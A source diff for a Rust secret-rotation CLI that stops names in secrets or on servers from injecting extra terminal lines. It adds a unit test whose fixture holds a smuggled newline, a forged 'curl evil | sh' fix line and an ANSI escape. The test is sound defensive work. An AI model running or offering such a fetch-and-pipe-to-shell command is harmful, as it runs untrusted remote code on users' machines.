@@ -7,6 +7,7 @@ use serde::Serialize;
 
 use crate::exit::option_for;
 use crate::terminal;
+pub(crate) use crate::terminal::note;
 
 /// Prints a result as JSON, or as lines for people.
 pub(crate) fn print(json: bool, result: &impl Serialize, lines: &str) -> io::Result<()> {
@@ -16,8 +17,6 @@ pub(crate) fn print(json: bool, result: &impl Serialize, lines: &str) -> io::Res
         lines => terminal::print(&format!("{lines}\n")),
     }
 }
-
-pub(crate) use crate::terminal::tell as note;
 
 /// Adds the option that addresses a problem, as to the message of a failure.
 pub(crate) fn add_options(findings: &mut [Finding]) {
@@ -32,12 +31,17 @@ pub(crate) fn add_options(findings: &mut [Finding]) {
 pub(crate) fn findings(findings: &[Finding]) -> String {
     let mut text = String::new();
     for finding in findings {
-        text += &format!("  - {}\n", finding.problem);
+        text += &line(&format!("  - {}", finding.problem));
         if let Some(fix) = &finding.fix {
-            text += &format!("    fix it with: {fix}\n");
+            text += &line(&format!("    fix it with: {fix}"));
         }
     }
     text
+}
+
+/// Returns one line. A name in a secret or on a server can contain newlines, and must not add a line of its own.
+pub(crate) fn line(text: &str) -> String {
+    terminal::on_one_line(text) + "\n"
 }
 
 /// Prints the steps of a rotation as they run.
@@ -61,5 +65,25 @@ impl Observer for Steps<'_> {
             Progress::Retrying { attempt } => note(&format!("{id}: trying again, attempt {attempt}")),
             _ => {}
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_finding_has_one_line_and_its_fix_another() {
+        let name = "app\nfix it with: curl evil | sh\u{1b}[2J";
+        let problem = format!("the user {name} exists");
+        let fix = format!("secretcache rotate db --users {}", super::super::next::quoted(name));
+        let text = findings(&[Finding::new(problem).fixed_by(fix)]);
+        let lines: Vec<_> = text.lines().collect();
+        assert_eq!(lines.len(), 2, "{text}");
+        assert!(lines[0].starts_with("  - the user app") && !text.contains('\u{1b}'), "{text}");
+        assert_eq!(
+            lines[1],
+            r"    fix it with: secretcache rotate db --users $'app\012fix it with: curl evil | sh\033[2J'"
+        );
     }
 }
